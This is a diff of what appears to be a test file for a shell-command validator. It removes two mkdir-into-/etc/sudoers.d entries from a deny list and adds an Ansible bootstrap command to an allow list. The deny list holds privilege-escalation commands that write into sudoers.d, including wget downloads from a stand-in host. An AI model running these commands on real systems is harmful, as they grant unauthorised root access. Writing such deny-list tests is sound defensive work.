@@ -685,7 +685,7 @@ DENIED_BYPASSES = [
     "git archive -o /etc/sudoers.d/x HEAD", "git bundle create /etc/sudoers.d/x HEAD",
     "git worktree add /etc/sudoers.d/w", "git init /etc/sudoers.d/r",
     "wget --output-doc=/etc/sudoers.d/x http://h/rule", "wget --output-d /etc/sudoers.d/x http://h/r",
-    "mkdir /etc/sudoers.d/d", "mkdir -m 700 -p /etc/sudoers.d/d", "mkfifo /etc/sudoers.d/f",
+    "mkfifo /etc/sudoers.d/f",
     "mknod /etc/sudoers.d/n p", "install -d /etc/sudoers.d/d", "flock /etc/sudoers.d/l true",
     "fallocate -l 1 /etc/sudoers.d/f",
     # finding 6: code in common programs' options
@@ -1350,6 +1350,8 @@ ALLOWED = [
     "[ -f /etc/nginx/nginx.conf ] && nginx -t",
     "if [ \"$(id -u)\" -ne 0 ]; then echo not root; fi",
     "[ -d /var/log/app ] || mkdir -p /var/log/app",
+    # Ansible's first command on a target: a directory named by a substitution
+    "( umask 77 && mkdir -p \"` echo ~/.ansible/tmp `\"&& mkdir \"` echo ~/.ansible/tmp/a-1 `\" )",
     "[[ -f /etc/x && -r /etc/y ]] && echo ok",
     "[[ $reply =~ ^(y|yes)$ ]] && echo yes",
     "[[ -z $x ]] || echo set",
